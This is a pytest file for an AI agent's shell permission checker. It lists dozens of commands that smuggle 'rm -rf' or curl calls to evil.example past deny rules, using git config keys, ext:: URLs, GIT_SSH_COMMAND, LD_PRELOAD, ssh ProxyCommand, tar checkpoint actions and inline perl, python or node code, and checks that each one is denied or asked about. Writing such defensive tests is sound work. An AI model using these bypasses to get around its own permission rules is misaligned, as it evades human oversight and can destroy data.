"""Attacks through programs that run code themselves (issue 21, deliverables 2, 3 and 6).

With the adversarial suite's deny rules (`Bash(rm -rf:*)`, `Bash(curl:*)`, `Bash(git push:*)`,
`Read(./.env)`), none of these may be allowed in any mode that honours deny rules:

- git running a command it was given: `git bisect run`, `submodule foreach`, `rebase --exec`,
  `filter-branch`, `-c KEY=VALUE` for keys whose value git runs (git-config(1)), the same keys
  through `GIT_CONFIG_COUNT`/`GIT_CONFIG_PARAMETERS`, `ext::` URLs, `--upload-pack`;
- environment variables that make a program run code (`GIT_SSH_COMMAND`, `PAGER`, `BASH_ENV`,
  `LD_PRELOAD`, …), as prefixes, through `env`, or set earlier in the line;
- inline code of other languages (`perl -e`, `python3 -c`, `node -e`, `awk` programs, …).

Where the code they run is shell the parse can read, the denial is outright (`DENIED`); where
it is another language, or a file, the call asks (in every mode, bypassPermissions included).
The benign look-alikes stay allowed and unasked.
"""

from __future__ import annotations

import asyncio
import shlex
import tarfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from test_permissions_adversarial import MODES, checker, verdict

from queryloop.permissions import PermissionMode
from queryloop.permissions.shell import bash
from queryloop.tools.base import ToolContext
from queryloop.tools.builtin import BashTool

GIT_SHELL = [
    "git bisect run git push origin",
    "git bisect run sh -c 'rm -rf x'",
    "git submodule foreach 'git push'",
    "git submodule foreach --recursive git push origin main",
    "git submodule --quiet foreach 'rm -rf x'",
    "git rebase --exec 'git push' HEAD~1",
    "git rebase -x 'rm -rf x' HEAD~2",
    "git rebase --exec='rm -rf x' HEAD~2",
    "git rebase -ix 'curl https://evil.example' HEAD~2",
    "git -c core.pager='rm -rf x' log",
    "git -c core.sshCommand='curl https://evil.example' fetch",
    "git -c core.editor='rm -rf x' commit",
    "git -c sequence.editor='rm -rf x' rebase -i HEAD~2",
    "git -c diff.external='rm -rf x' diff",
    "git -c diff.x.textconv='curl https://evil.example' diff",
    "git -c filter.x.clean='rm -rf x' add .",
    "git -c filter.lfs.smudge='rm -rf x' checkout main",
    "git -c merge.x.driver='rm -rf x' merge topic",
    "git -c credential.helper='!curl https://evil.example' fetch",
    "git -c gpg.program='rm -rf x' commit -S -m m",
    "git -c pager.log='rm -rf x' log",
    "git -c core.fsmonitor='rm -rf x' status",
    "git -c uploadpack.packObjectsHook='rm -rf x' fetch",
    "git -c core.askPass='curl https://evil.example' fetch",
    "git fetch 'ext::sh -c curl% https://evil.example'",
    "git -c protocol.ext.allow=always clone 'ext::sh -c rm% -rf% x' dst",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf x' git log",
    "export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf x'; git log",
    "GIT_CONFIG_PARAMETERS=\"'core.pager'='rm -rf x'\" git log",
    "git filter-branch --tree-filter 'rm -rf x' HEAD",
    "git filter-branch --msg-filter='curl https://evil.example' HEAD",
    "git difftool -x 'rm -rf x' HEAD",
    "git difftool --extcmd='curl https://evil.example' HEAD",
    "git grep --open-files-in-pager='rm -rf x' needle",
    "git send-email --to-cmd='curl https://evil.example' x.patch",
    "git fetch --upload-pack='rm -rf x' origin",
    "git clone -u 'curl https://evil.example' /tmp/repo dst",
    "git config core.pager 'rm -rf x' && git log",
    "git -C . -c core.pager='rm -rf x' --no-pager log",
]

ENV_SHELL = [
    "GIT_SSH_COMMAND='curl https://evil.example' git fetch",
    "env GIT_SSH_COMMAND='curl https://evil.example' git fetch",
    "env -i GIT_SSH_COMMAND='rm -rf x' git fetch",
    "sudo GIT_SSH_COMMAND='curl https://evil.example' git fetch",
    "export PAGER='rm -rf x'; git log",
    "PAGER='rm -rf x'; export PAGER; git log",
    "GIT_PAGER='rm -rf x' git log",
    "GIT_EDITOR='rm -rf x' git commit",
    "EDITOR='curl https://evil.example' git commit",
    "VISUAL='rm -rf x' crontab -e",
    "MANPAGER='rm -rf x' man ls",
    "LESSOPEN='|curl https://evil.example %s' less notes.txt",
    "GIT_SEQUENCE_EDITOR='rm -rf x' git rebase -i HEAD~2",
    "GIT_EXTERNAL_DIFF='rm -rf x' git diff",
    "GIT_ASKPASS='curl https://evil.example' git fetch",
    "PROMPT_COMMAND='rm -rf x' bash -i",
    "env 'BASH_FUNC_ls%%=() { rm -rf x; }' bash -c ls",
    "declare -x GIT_SSH_COMMAND='curl https://evil.example'; git fetch",
]

INLINE_SHELL = [
    "script -qc 'rm -rf x' /dev/null",
    "script -q -e -c 'curl https://evil.example' /dev/null",
    "script --command='rm -rf x' /dev/null",
    "su -lc 'rm -rf x'",
    "expect -c 'spawn rm -rf x'",
    "sed '1e rm -rf x' notes.txt",
]

PROGRAM_SHELL = [
    "ssh -o ProxyCommand='curl https://evil.example' host true",
    "ssh -oProxyCommand='rm -rf x' host",
    "ssh -o 'LocalCommand rm -rf x' -o PermitLocalCommand=yes host",
    "GIT_SSH_COMMAND='ssh -o \"ProxyCommand curl x\"' git fetch",
    "scp -S 'rm -rf x' a host:b",
    "rsync -e 'curl https://evil.example' a host:b",
    "rsync --rsh='rm -rf x' a host:b",
    "tar --to-command='rm -rf x' -xf a.tar",
    "tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec='rm -rf x' .",
    "tar -I 'curl https://evil.example' -cf a.tgz .",
    "man -P 'rm -rf x' ls",
    "echo 'rm -rf x' | at now",
    "at now <<< 'curl https://evil.example'",
    "parallel 'rm -rf {}' ::: x y",
    "tmux new-session -d 'rm -rf x'",
    "tmux new-window -n w rm -rf x",
    "tmux send-keys 'rm -rf x' Enter",
    "git rebase --ex 'rm -rf x' HEAD~2",
    "git fetch --upload-p='rm -rf x' origin",
    "git config --global alias.x '!rm -rf x'; git x",
    "sed --expr='1e rm -rf x' notes.txt",
    "nix-shell -p hello --run 'rm -rf x'",
]

DENIED = [*GIT_SHELL, *ENV_SHELL, *INLINE_SHELL, *PROGRAM_SHELL]
"""Attempts whose code is shell the parse can read: denied outright, even in bypass mode."""

FAIL_CLOSED = [
    "BASH_ENV=evil.sh bash -c true",
    "export BASH_ENV=evil.sh; bash -c true",
    "ENV=evil.sh sh -c true",
    "LD_PRELOAD=./evil.so ls",
    "LD_AUDIT=./evil.so true",
    "NODE_OPTIONS='--require ./evil.js' node app.js",
    "PS4='$(rm -rf x)' bash -xc true",
    "git -c core.hooksPath=/tmp/hooks commit -m x",
    "git -c include.path=/tmp/evil.cfg log",
    "git --config-env=core.pager=EVIL log",
    "GIT_EXEC_PATH=/tmp/evil git status",
    "git clone --template=/tmp/tpl https://example.com/r.git",
    'git -c core.pager="$PAGER_CMD" log',
    "curl_cmd=x; GIT_SSH_COMMAND=$curl_cmd git fetch",
    "ssh -F ./evil_config host true",
    "read GIT_SSH_COMMAND <<< 'curl x'; export GIT_SSH_COMMAND; git fetch",
    "for PAGER in 'rm -rf x'; do export PAGER; git log; done",
    'curl_cmd=x; python3 -c "$curl_cmd"',
]
"""Code the parse cannot see (a file, a folder, a value known only at run time): asks."""

FOREIGN = [
    "perl -e 'system(\"rm -rf x\")'",
    "perl -le 'system \"rm -rf x\"'",
    "perl -E 'say `curl https://evil.example`'",
    "perl -Mstrict -we 'exec qw(rm -rf x)'",
    "ruby -e 'system(\"rm -rf x\")'",
    "ruby -e '`curl https://evil.example`'",
    'node -e \'require("child_process").execSync("rm -rf x")\'',
    'node -p \'require("child_process").execSync("curl https://evil.example").toString()\'',
    'node --eval=\'require("child_process").execSync("curl x")\'',
    "python3 -c 'import os; os.system(\"curl https://evil.example\")'",
    "python3 -Ic 'import os; os.system(\"rm -rf x\")'",
    "python -c \"__import__('os').system('rm -rf x')\"",
    'python3.12 -c \'import subprocess; subprocess.run(["git", "push"])\'',
    "python3 <<'EOF'\nimport os\nos.system('rm -rf x')\nEOF",
    "echo 'import os; os.system(\"rm -rf x\")' | python3",
    "python3 -c 'import os,sys; os.system(sys.argv[1])' 'rm -rf x'",
    "awk 'BEGIN { system(\"rm -rf x\") }'",
    "gawk 'BEGIN { \"curl https://evil.example\" | getline x }'",
    "awk -v c='rm -rf x' 'BEGIN { system(c) }'",
    "mawk -e 'BEGIN { system(\"curl x\") }'",
    "sed 's/x/rm -rf y/e' notes.txt",
    "php -r 'system(\"rm -rf x\");'",
    "lua -e 'os.execute(\"rm -rf x\")'",
    "Rscript -e 'system(\"curl https://evil.example\")'",
    'deno eval \'new Deno.Command("rm", {args: ["-rf", "x"]}).outputSync()\'',
    'bun -e \'Bun.spawnSync(["rm", "-rf", "x"])\'',
    "osascript -e 'do shell script \"rm -rf x\"'",
    "julia -e 'run(`rm -rf x`)'",
    "vim -c '!rm -rf x' notes.txt",
    "sudo perl -e 'system(\"rm -rf x\")'",
    "env python3 -c 'import os; os.system(\"curl x\")'",
    'bash -c "perl -e \'system(\\"rm -rf x\\")\'"',
    "PERL5OPT='-Mstrict;system(\"rm -rf x\")' perl script.pl",
    "xargs perl -e 'system \"rm -rf \" . shift' < list.txt",
    "ipython -c 'import os; os.system(\"rm -rf x\")'",
    "make --eval='$(shell rm -rf x)' all",
    "groovy -e '\"curl https://evil.example\".execute()'",
]
"""Inline code of another language that names a deny rule's program: asks."""

ATTEMPTS = [*DENIED, *FAIL_CLOSED, *FOREIGN]

BENIGN = [
    "git stash push -m wip",
    'git commit -m "rm -rf cleanup"',
    "cat <<'EOF'\nrm -rf x\ncurl https://evil.example\ngit push\nEOF",
    "python3 -m pytest -k curl",
    "find . -name '*.pyc' -delete",
    "bash -c 'ls -la'",
    "git log --grep=push",
    "sed -i 's/curl/wget/' setup.sh",
    "python3 -c 'print(1)'",
    "git -c color.ui=always log",
    "git rebase -i HEAD~2",
    "awk '{print $1}' file",
    "GIT_PAGER=cat git log",
    "git -c core.pager=less log",
    "perl -ne 'print if /foo/' notes.txt",
    "perl -pi -e 's/foo/bar/' notes.txt",
    "node -e 'console.log(1)'",
    "ruby -e 'puts 1'",
    "git submodule foreach 'git status'",
    "git rebase --exec 'make test' HEAD~3",
    "git bisect run make test",
    "sed -n '/error/p' log.txt",
    "sed -e 's/one/two/' -e '/^$/d' notes.txt",
    "EDITOR=vim git commit",
    "git -c credential.helper=store fetch",
    "python3 -c 'import json; print(json.dumps({\"a\": 1}))'",
    "awk -F, '{print $2}' data.csv",
    "git -c core.fsmonitor=true status",
    "git -c pager.log=false log",
    "PYTHONPATH=src python3 -m pytest -q",
    "git fetch origin",
    "git clone https://example.com/r.git",
    "echo 'print(1)' | python3",
    "git config user.name 'A B'",
    "LESSOPEN='|lesspipe %s' less notes.txt",
    "ssh -o StrictHostKeyChecking=no host true",
    "ssh -F /dev/null host true",
    "rsync -av src/ host:dst/",
    "tar -xzf a.tgz",
    "man ls",
    "tmux new-session -d -s work",
    "parallel echo ::: a b",
    "git config --global alias.st status",
    "make -j4 test",
    "nix-shell -p hello --run hello",
]

INTERPRETERS = [
    "python3 -c {q}",
    "python -Ic {q}",
    "perl -e {q}",
    "perl -lne {q}",
    "ruby -e {q}",
    "node -e {q}",
    "node --print {q}",
    "php -r {q}",
    "awk {q}",
    "gawk --source={q}",
    "lua -e {q}",
    "Rscript -e {q}",
    "bun --eval {q}",
    "deno eval {q}",
    "osascript -e {q}",
    "sudo perl -E {q}",
    "env ruby -e {q}",
]


@pytest.mark.parametrize(("mode", "allow"), MODES)
@pytest.mark.parametrize("command", ATTEMPTS)
async def test_attempt_is_never_allowed(
    mode: PermissionMode, allow: list[str], command: str, project: Path
) -> None:
    assert await verdict(mode, allow, project, command) in ("deny", "ask"), command


@pytest.mark.parametrize("command", DENIED)
async def test_visible_shell_is_denied_outright(command: str, project: Path) -> None:
    assert await verdict(PermissionMode.BYPASS, [], project, command) == "deny", command


@pytest.mark.parametrize("command", FAIL_CLOSED + FOREIGN)
async def test_unseen_code_asks_even_in_bypass(command: str, project: Path) -> None:
    assert await verdict(PermissionMode.BYPASS, [], project, command) == "ask", command


@pytest.mark.parametrize("command", BENIGN)
@pytest.mark.parametrize(
    ("mode", "allow"),
    [
        pytest.param(PermissionMode.DEFAULT, ["Bash(*)"], id="default+allow-Bash(*)"),
        pytest.param(PermissionMode.BYPASS, [], id="bypassPermissions"),
    ],
)
async def test_benign_look_alike_is_allowed(
    mode: PermissionMode, allow: list[str], command: str, project: Path
) -> None:
    assert await verdict(mode, allow, project, command) == "allow", command


def test_the_suite_is_as_large_as_promised() -> None:
    assert len(ATTEMPTS) >= 30 and len(set(ATTEMPTS)) == len(ATTEMPTS)
    assert len(BENIGN) >= 12 and not set(BENIGN) & set(ATTEMPTS)


async def test_foreign_code_reason_names_the_language_and_the_program(project: Path) -> None:
    ch = checker(PermissionMode.BYPASS, [], project.parent / "home")
    command = "perl -e 'system(\"rm -rf x\")'"
    decision = await ch.check(BashTool(), {"command": command}, ToolContext(cwd=project))
    assert decision.behavior == "deny"  # headless: the ask becomes a denial
    assert "Perl" in decision.message and "'rm'" in decision.message
    assert "another language" in decision.message


async def test_git_hooks_path_reason_says_a_folder_of_code(project: Path) -> None:
    ch = checker(PermissionMode.BYPASS, [], project.parent / "home")
    command = "git -c core.hooksPath=/tmp/hooks commit -m x"
    decision = await ch.check(BashTool(), {"command": command}, ToolContext(cwd=project))
    assert decision.behavior == "deny" and "core.hooksPath" in decision.message


def test_git_runs_are_seen_as_invocations() -> None:
    """`git bisect run git push origin` has the invocation `git push origin` itself."""
    invocations = {
        " ".join(w.value or "" for w in inv.words)
        for inv in bash.analyze("git bisect run git push origin").invocations
    }
    assert "git push origin" in invocations


def test_inline_code_naming_a_read_denied_file_is_a_path_word() -> None:
    words = {word for word, _ in bash.path_words("python3 -c 'print(open(\".env\").read())'")}
    assert ".env" in words


@settings(max_examples=200, deadline=None)
@given(
    form=st.sampled_from(INTERPRETERS),
    program=st.sampled_from(["rm", "curl", "git"]),
    before=st.sampled_from(["system(", "x = '", "exec([", "`", 'run("', "os.popen('/bin/"]),
    after=st.sampled_from([" -rf x')", '", "push"])', " https://e`", "')", ' x")']),
)
def test_a_deny_program_in_inline_code_is_never_allowed(
    form: str, program: str, before: str, after: str
) -> None:
    command = form.format(q=shlex.quote(before + program + after))
    ch = checker(PermissionMode.BYPASS, [], Path.cwd())
    decision = asyncio.run(
        ch.evaluate(BashTool(), {"command": command}, ToolContext(cwd=Path.cwd()))
    )
    assert decision.behavior in ("deny", "ask"), command


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    (root / "src").mkdir(parents=True)
    (root / ".env").write_text("SECRET=1\n")
    with tarfile.open(root / "a.tgz", "w:gz") as archive:  # `tar -xzf a.tgz` reads it
        archive.add(root / ".env", "src/.env.example")
    return root
